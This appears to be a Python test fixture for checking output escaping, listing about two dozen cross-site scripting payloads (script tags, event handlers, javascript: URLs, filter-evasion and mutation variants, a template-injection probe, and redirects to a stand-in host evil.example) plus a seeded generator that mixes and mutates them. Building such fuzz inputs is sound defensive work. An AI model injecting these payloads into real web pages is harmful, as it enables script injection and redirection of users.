"""Words that would run in a page that did not escape them."""

from random import Random  # noqa: TID251  seeded: a trial can be repeated

PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)", "https://a.example/'onmouseover='alert(1)", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "{{7*7}}{% debug %}",
    "<style>*{display:none}</style>", "<!--<script>alert(1)//--></script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "＜script＞alert(1)＜/script＞", "<details open ontoggle=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "${alert(1)}", "</script><x y=",
    "<input autofocus onfocus=alert(1)>", "\u202e<script>alert(1)</script>", "<object data=data:text/html,x>",
)  # fmt: skip


def many(number: int, seed: int) -> list[str]:
    """So many of them, put together and changed in their case and spaces."""
    chance = Random(seed)
    made = []
    for _ in range(number):
        words = "".join(chance.sample(PAYLOADS, chance.randint(1, 3)))
        words = "".join(char.upper() if chance.random() < 0.2 else char for char in words)
        made.append(words.replace(" ", chance.choice((" ", "\t", "/", "\u00a0", " \u200b"))))
    return made
